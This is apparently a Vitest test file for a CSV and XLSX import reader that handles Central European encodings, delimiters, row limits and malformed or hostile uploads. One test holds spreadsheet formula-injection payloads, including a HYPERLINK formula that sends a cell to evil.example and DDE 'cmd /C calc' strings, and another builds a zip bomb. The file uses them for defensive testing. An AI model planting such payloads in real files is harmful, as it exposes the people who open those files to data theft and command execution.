// @vitest-environment node
// Files as clients upload them: Excel and LibreOffice exports in Slovak, Czech and German
// settings, script output, and files built to hurt (too big, mislabelled, zip bombs).
import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { zipSync } from 'fflate';
import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { mappingFromHeaders, missingRequiredFields } from '#shared/domain/import-columns.ts';
import { IMPORT_MAX_BYTES, IMPORT_MAX_ROWS } from '#shared/domain/limits.ts';
import { documentActionMessages } from '#shared/i18n/document-action-messages.ts';
import { serverMessages } from '#shared/i18n/server-messages.ts';
import { ImportFileError, openImportFile, readImportFile, type ImportSheet } from './read-import-file.ts';

const fixture = (name: string) => new Uint8Array(readFileSync(new URL(`../../../../tests/fixtures/imports/${name}`, import.meta.url)));
const utf8 = (text: string) => new TextEncoder().encode(text);
const column = (sheet: ImportSheet, header: string) => sheet.rows.map((row) => row[sheet.headers.indexOf(header)]);

/** The message id the read fails with. */
async function refusal(type: 'csv' | 'xlsx', bytes: Uint8Array): Promise<string> {
  const error: unknown = await readImportFile(type, bytes).then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ImportFileError);
  return (error as ImportFileError).messageId;
}

async function xlsxOf(build: (workbook: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  build(workbook);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

describe('readImportFile: CSV', () => {
  it('reads a LibreOffice export in Windows-1250 with Slovak and Czech letters and decimal commas as written', async () => {
    const sheet = await readImportFile('csv', fixture('libreoffice-cp1250-semicolon.csv'));
    expect(sheet.headers).toEqual(['Meno', 'Ulica', 'Číslo domu', 'Mesto', 'PSČ', 'Krajina', 'Telefón', 'E-mail', 'Produkt', 'Obsah', 'Hmotnosť', 'Šírka', 'Výška', 'Dĺžka', 'Referencia']);
    expect(column(sheet, 'Meno')).toEqual(['Ľubomír Ščasný', 'Ťažký Ďalibor Žiak', 'Jiří Řezníček', 'Pavel NĚMEC', 'Dušan Múčka']);
    expect(column(sheet, 'Obsah')).toEqual(['Čaj a káva', 'Kôň z dreva, mäkký', 'Dárkové zboží', 'Hrnky; talíře', 'Ručne šité tašky']);
    expect(column(sheet, 'Hmotnosť')).toEqual(['1,25', '2,5', '0,8', '3,75', '0,45']);
    expect(column(sheet, 'Referencia')[3]).toBe('OBJ-ĚŘ-1004');
    expect(sheet.rowNumbers).toEqual([2, 3, 4, 5, 6]);
    expect(missingRequiredFields(mappingFromHeaders(sheet.headers))).toEqual([]);
  });

  it("reads Excel's UTF-8 CSV with a BOM and leaves out the empty rows Excel writes after the data", async () => {
    const sheet = await readImportFile('csv', fixture('excel-utf8-bom.csv'));
    expect(sheet.headers[0]).toBe('Meno');
    expect(column(sheet, 'Meno')).toEqual(['Katarína Vargová', 'Milan Oravec', 'Věra Procházková']);
    expect(column(sheet, 'Dobierka')).toEqual(['24,90', '', '659']);
    expect(sheet.rowNumbers).toEqual([2, 3, 4]);
  });

  it("reads a script's comma-separated UTF-8 file with LF line ends", async () => {
    const sheet = await readImportFile('csv', utf8('receiver_name,receiver_city,weight\nJán Novák,Bratislava,2.5\n"Novák, Peter",Žilina,1\n'));
    expect(sheet).toEqual({ headers: ['receiver_name', 'receiver_city', 'weight'], rows: [['Ján Novák', 'Bratislava', '2.5'], ['Novák, Peter', 'Žilina', '1']], rowNumbers: [2, 3] });
  });

  it('takes a semicolon file with decimal commas for semicolons, even when every row has the same number of commas', async () => {
    const sheet = await readImportFile('csv', utf8('Meno;Hmotnosť;Šírka\r\nEva;2,5;30\r\nJán;1,25;20\r\n'));
    expect(sheet.rows).toEqual([['Eva', '2,5', '30'], ['Ján', '1,25', '20']]);
  });

  it('reads a tab-separated file, and the UTF-16 "Unicode text" Excel saves', async () => {
    const text = 'Name\tStadt\tGewicht\r\nJürgen Groß\tMünchen\t1,5\r\n';
    expect((await readImportFile('csv', utf8(text))).rows).toEqual([['Jürgen Groß', 'München', '1,5']]);
    const utf16 = new Uint8Array([0xff, 0xfe, ...new Uint8Array(Uint16Array.from(text, (c) => c.charCodeAt(0)).buffer)]);
    expect((await readImportFile('csv', utf16)).rows).toEqual([['Jürgen Groß', 'München', '1,5']]);
  });

  it('keeps line breaks, semicolons and quotes inside quoted cells and numbers rows as the spreadsheet shows them', async () => {
    const sheet = await readImportFile('csv', fixture('quoted-line-breaks.csv'));
    expect(column(sheet, 'Meno')).toEqual(['Anna Kráľová', 'Róbert Šebo', 'Kaviareň "U Zlatej lode"', 'Ivana Tóthová']);
    expect(column(sheet, 'Obsah')[1]).toBe('Knihy; časopisy');
    expect(column(sheet, 'Obsah')[2]).toBe('Hrnčeky "Espresso", 6 ks');
    expect(column(sheet, 'Poznámka')[2]).toBe('Zadný vchod\nz dvora\nna zvonček "Kaviareň"');
    // Line 9 of the file, but the 5th record: Excel shows it in row 5.
    expect(sheet.rowNumbers).toEqual([2, 3, 4, 5]);
  });

  it('skips blank rows between the data but keeps counting them', async () => {
    const sheet = await readImportFile('csv', utf8('Meno;Mesto\nEva;Nitra\n\n ; \nJán;Senec\n;\n\n'));
    expect(sheet.rows).toEqual([['Eva', 'Nitra'], ['Ján', 'Senec']]);
    expect(sheet.rowNumbers).toEqual([2, 5]);
  });

  it('pads short rows, cuts cells beyond the last header and trims the headers', async () => {
    const sheet = await readImportFile('csv', utf8(' Meno ;Mesto;;\nEva\nJán;Senec;x;y;z\n'));
    expect(sheet.headers).toEqual(['Meno', 'Mesto']);
    expect(sheet.rows).toEqual([['Eva', ''], ['Ján', 'Senec']]);
  });

  it('follows a "sep=;" first line, which Excel hides', async () => {
    const sheet = await readImportFile('csv', utf8('sep=;\r\nMeno;Hmotnosť\r\nEva;2,5\r\n'));
    expect(sheet).toEqual({ headers: ['Meno', 'Hmotnosť'], rows: [['Eva', '2,5']], rowNumbers: [2] });
  });

  it('keeps cells that look like formulas as plain text: escaping them is the writer of any exported file', async () => {
    const sheet = await readImportFile('csv', fixture('formula-injection.csv'));
    expect(column(sheet, 'receiver_name')[0]).toBe('=HYPERLINK("http://evil.example/?d="&A1,"Track parcel")');
    expect(column(sheet, 'content')[1]).toBe("+cmd|' /C calc'!A0");
    expect(column(sheet, 'receiver_name')[2]).toBe("-2+3+cmd|' /C calc'!A0");
    expect(column(sheet, 'content')[3]).toBe("@SUM(1+1)*cmd|' /C calc'!A0");
    expect(sheet.rows).toHaveLength(5);
  });

  it('reads the mixed file as rows to check: invalid values are the row check’s business, not the reader’s', async () => {
    const sheet = await readImportFile('csv', fixture('mixed-rows.csv'));
    expect(sheet.rows).toHaveLength(11);
    expect(sheet.rowNumbers).toEqual([2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]);
    expect(column(sheet, 'Mesto')[3]).toBe('');
    expect(column(sheet, 'PSČ').slice(0, 5)).toEqual(['01001', '811 01', '110 00', '821 05', '123']);
    expect(missingRequiredFields(mappingFromHeaders(sheet.headers))).toEqual([]);
  });

  it.each([
    ['an empty file', ''],
    ['a file holding only a BOM', '\uFEFF'],
    ['a file of blank lines', '\r\n\r\n  \r\n'],
    ['a header without rows', 'Meno;Mesto;PSČ\r\n'],
    ['a header followed by empty rows', 'Meno;Mesto;PSČ\r\n;;\r\n;;\r\n'],
  ])('refuses %s as empty', async (_, text) => {
    expect(await refusal('csv', utf8(text))).toBe(documentActionMessages.importEmpty.id);
  });

  it('reads 100,000 rows and refuses 100,001', async () => {
    const lines = (count: number) => ['Meno;Mesto;Hmotnosť', ...Array.from({ length: count }, (_, i) => `Zákazník ${i};Bratislava;2,5`)].join('\r\n');
    const sheet = await readImportFile('csv', utf8(lines(IMPORT_MAX_ROWS)));
    expect(sheet.rows).toHaveLength(IMPORT_MAX_ROWS);
    expect(sheet.rowNumbers.at(-1)).toBe(IMPORT_MAX_ROWS + 1);
    expect(await refusal('csv', utf8(lines(IMPORT_MAX_ROWS + 1)))).toBe(serverMessages.importTooManyRows.id);
  });

  it('refuses a file over 30 MB, whatever its type', async () => {
    const bytes = new Uint8Array(IMPORT_MAX_BYTES + 1).fill(0x61);
    expect(await refusal('csv', bytes)).toBe(documentActionMessages.importTooLarge.id);
    expect(await refusal('xlsx', bytes)).toBe(documentActionMessages.importTooLarge.id);
  });

  it('refuses a spreadsheet or another binary file saved with a .csv name', async () => {
    expect(await refusal('csv', fixture('libreoffice.xlsx'))).toBe(serverMessages.importTypeMismatch.id);
    const pdf = new Uint8Array([...utf8('%PDF-1.7\n'), 0x00, 0x01, 0x02, 0xff, ...utf8('stream')]);
    expect(await refusal('csv', pdf)).toBe(serverMessages.importTypeMismatch.id);
  });

  it('reads a text file with a stray NUL: the cell keeps it, for its row to be refused with its number (issue 31)', async () => {
    const rows = Array.from({ length: 40 }, (_, i) => `Ján ${i};Senec`);
    rows[2] = 'Eva\u0000 Malá;Nitra';
    const sheet = await readImportFile('csv', utf8(['Meno;Mesto', ...rows].join('\n')));
    expect(sheet.rows).toHaveLength(40);
    expect(sheet.rows[2]).toEqual(['Eva\u0000 Malá', 'Nitra']);
    // A NUL in a header is dropped: headers name the columns of row errors, stored as JSON.
    expect((await readImportFile('csv', utf8('Meno\u0000;Mesto\nEva;Nitra'))).headers).toEqual(['Meno', 'Mesto']);
  });

  it('refuses a quote left open, which would swallow every row after it', async () => {
    expect(await refusal('csv', utf8('Meno;Obsah\nEva;"Knihy\nJán;Hračky\n'))).toBe(documentActionMessages.importUnreadable.id);
  });
});

describe('openImportFile: a stretch of rows at a time (what the import job holds)', () => {
  it('gives any stretch exactly as the whole read gives it, across blank rows and quoted line breaks', async () => {
    const rows = Array.from({ length: 25 }, (_, i) => (i % 7 === 3 ? ';' : i % 5 === 1 ? `"Eva\n${i}";"Nitra; ${i}"` : `Ján ${i};Senec`));
    const bytes = utf8(['Meno;Mesto', ...rows, '', ''].join('\r\n'));
    const whole = await readImportFile('csv', bytes);
    const file = await openImportFile('csv', bytes);
    expect(file.headers).toEqual(whole.headers);
    expect(file.count).toBe(whole.rows.length);
    for (const [start, end] of [[0, 1], [0, 7], [3, 11], [10, file.count], [file.count - 1, file.count + 5]] as const) {
      expect(file.rows(start, end)).toEqual({ rows: whole.rows.slice(start, end), rowNumbers: whole.rowNumbers.slice(start, end) });
    }
    expect(file.rows(file.count, file.count + 10)).toEqual({ rows: [], rowNumbers: [] });
    expect(file.rows(5, 7)).toMatchObject({ rows: [['Eva\n6', 'Nitra; 6'], ['Ján 7', 'Senec']], rowNumbers: [8, 9] });
  });

  it('checks the whole file when it is opened: a quote left open on the last row refuses it', async () => {
    const error = await openImportFile('csv', utf8('Meno;Obsah\nEva;Knihy\nJán;"Hračky\n')).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ImportFileError);
    expect((error as ImportFileError).messageId).toBe(documentActionMessages.importUnreadable.id);
  });
});

describe('readImportFile: XLSX', () => {
  afterEach(() => vi.restoreAllMocks());

  it('reads the first sheet as Excel stores it: numbers, text, a formula result, dates, a postal code saved as a number', async () => {
    const sheet = await readImportFile('xlsx', fixture('libreoffice.xlsx'));
    expect(sheet.headers).toHaveLength(18);
    expect(sheet.rowNumbers).toEqual([2, 3, 4]);
    expect(column(sheet, 'Meno')).toEqual(['Ján Kováč', 'Kiss Péter', 'Věra Procházková']); // rich text joined
    expect(column(sheet, 'E-mail')[0]).toBe('jan.kovac@example.sk'); // a hyperlink's text
    expect(column(sheet, 'PSČ')).toEqual(['010 01', '1051', '702 00']);
    expect(column(sheet, 'Číslo domu')).toEqual(['12', '7', '45']);
    expect(column(sheet, 'Hmotnosť')).toEqual(['2.5', '1.5', '0.75']); // 1.5 from =0.5*3
    expect(column(sheet, 'Dátum objednávky')).toEqual(['2025-03-14', '2025-03-14T10:30:00', '2025-03-15']);
    expect(column(sheet, 'Krehké')).toEqual(['FALSE', 'TRUE', 'FALSE']);
    expect(column(sheet, 'Referencia')).toEqual(['OBJ-3001', 'OBJ-3002', '']); // #N/A
    expect(missingRequiredFields(mappingFromHeaders(sheet.headers))).toEqual([]);
  });

  it('reads the first visible sheet, up to the last named header, without blank rows', async () => {
    const bytes = await xlsxOf((workbook) => {
      workbook.addWorksheet('Zoznamy', { state: 'hidden' }).addRow(['Krajina']);
      const sheet = workbook.addWorksheet('Zásielky');
      sheet.addRow(['Meno', 'Mesto', null, 'PSČ']);
      sheet.addRow(['Eva', 'Nitra', 'x', 94901, 'beyond the headers']);
      sheet.getCell('A4').value = 'Ján';
      sheet.getCell('A6').fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFFF00' } };
    });
    expect(await readImportFile('xlsx', bytes)).toEqual({ headers: ['Meno', 'Mesto', '', 'PSČ'], rows: [['Eva', 'Nitra', 'x', '94901'], ['Ján', '', '', '']], rowNumbers: [2, 4] });
  });

  it('refuses a sheet with a header and no rows as empty', async () => {
    const bytes = await xlsxOf((workbook) => workbook.addWorksheet('Hárok1').addRow(['Meno', 'Mesto']));
    expect(await refusal('xlsx', bytes)).toBe(documentActionMessages.importEmpty.id);
  });

  it('refuses CSV text or an old .xls saved with an .xlsx name', async () => {
    expect(await refusal('xlsx', fixture('excel-utf8-bom.csv'))).toBe(serverMessages.importTypeMismatch.id);
    const xls = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
    expect(await refusal('xlsx', xls)).toBe(serverMessages.importTypeMismatch.id);
  });

  it('refuses a zip that is not a workbook, and a truncated one, as unreadable', async () => {
    expect(await refusal('xlsx', zipSync({ 'notes.txt': utf8('hello') }))).toBe(documentActionMessages.importUnreadable.id);
    const workbook = fixture('libreoffice.xlsx');
    expect(await refusal('xlsx', workbook.subarray(0, workbook.length - 100))).toBe(documentActionMessages.importUnreadable.id);
  });

  describe('zip bombs, refused before exceljs unpacks anything (every shape: archive-guard.test.ts)', () => {
    const load = () => vi.spyOn(Object.getPrototypeOf(new ExcelJS.Workbook().xlsx) as ExcelJS.Xlsx, 'load');

    it('an entry that expands over 100 times to more than 10 MB (20 MB of zeros in ~20 KB)', async () => {
      const spy = load();
      const bomb = zipSync({ '[Content_Types].xml': utf8('<Types/>'), 'xl/worksheets/sheet1.xml': new Uint8Array(20 * 1024 * 1024) });
      expect(bomb.length).toBeLessThan(100 * 1024);
      expect(await refusal('xlsx', bomb)).toBe(serverMessages.importUnpacksTooLarge.id);
      expect(spy).not.toHaveBeenCalled();
    });
  });
});

describe('openImportFile: a CSV without quotes (rows located line by line, without Papa)', () => {
  /** The rows as Papa gives them for the whole text, with the reader's rules for headers and blank rows. */
  function byPapa(text: string): { headers: string[]; rows: string[][]; rowNumbers: number[] } | 'empty' {
    const records = Papa.parse<string[]>(text, { delimiter: ';', newline: '\n' }).data;
    const headers = (records[0] ?? []).map((cell) => cell.trim());
    while (headers.length > 0 && headers[headers.length - 1] === '') headers.pop();
    if (headers.length === 0) return 'empty';
    const rows: string[][] = [];
    const rowNumbers: number[] = [];
    records.slice(1).forEach((cells, i) => {
      const row = Array.from({ length: headers.length }, (_, k) => cells[k] ?? '');
      if (row.every((c) => c.trim() === '')) return;
      rows.push(row);
      rowNumbers.push(i + 2);
    });
    return rows.length === 0 ? 'empty' : { headers, rows, rowNumbers };
  }

  it('gives the rows, row numbers and headers Papa gives, blank and short rows and every kind of line end included', async () => {
    const cell = fc.stringMatching(/^[a-zž \t]{0,3}$/);
    const line = fc.array(cell, { minLength: 0, maxLength: 5 }).map((cells) => cells.join(';'));
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(line, fc.constantFrom('\n', '\r\n', '\r')), { minLength: 1, maxLength: 12 }), fc.boolean(), async (lines, trailingNewline) => {
        // Each line with its own line end (LF, Windows' CRLF or an old Mac's CR), as files mix them.
        const text = lines.map(([cells, end], i) => cells + (i < lines.length - 1 || trailingNewline ? end : '')).join('');
        const expected = byPapa(text.replace(/\r\n?/g, '\n'));
        const got = await readImportFile('csv', utf8(`sep=;${lines[0]![1]}${text}`)).catch((error: unknown) => error);
        if (expected === 'empty') {
          expect(got).toBeInstanceOf(ImportFileError);
          expect((got as ImportFileError).messageId).toBe(documentActionMessages.importEmpty.id);
        } else {
          // sep=; is hidden, as Excel hides it: the header stays row 1.
          expect(got).toEqual(expected);
        }
      }),
      { seed: 190019, numRuns: 400 },
    );
  });
});
